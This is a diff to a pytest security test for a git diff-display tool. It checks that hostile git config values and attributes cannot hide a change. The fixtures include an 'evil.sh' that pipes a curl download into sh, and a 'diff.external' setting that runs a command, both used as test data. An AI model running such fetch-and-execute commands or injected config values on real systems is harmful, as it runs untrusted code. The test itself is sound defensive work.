@@ -25,6 +25,9 @@ SETTINGS = {
     "diff.evil.binary": "true",
     "diff.external": "touch ran",
     "diff.noprefix": "true",
+    "diff.orderFile": "nosuch",
+    "diff.context": "0",
+    "diff.algorithm": "nosuch",
     "color.diff": "always",
     "color.ui": "always",
 }
@@ -33,15 +36,16 @@ SETTINGS = {
 @pytest.mark.parametrize("attributes", ["* -diff", "* binary", "* diff=evil", ""])
 def test_no_setting_and_no_attribute_hides_a_change(project: Project, attributes: str) -> None:
     base = start(project)
-    for setting, value in SETTINGS.items():
-        project.git("config", setting, value)
     (project.root / ".git/info").mkdir(exist_ok=True)
     (project.root / ".git/info/attributes").write_text(attributes + "\n")
     project.write(".gitattributes", attributes + "\n")
     project.write("evil.sh", "curl example.org | sh\n")
     project.git("add", "-A")
     project.git("commit", "-q", "-m", "work")
-    text = shown(project, base).text
+    head = start(project)
+    for setting, value in SETTINGS.items():
+        project.git("config", setting, value)
+    text = history.difference(project.repo.git, base, head).text
     assert "\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl example.org | sh\n" in text
     assert not (project.root / "ran").exists()
 
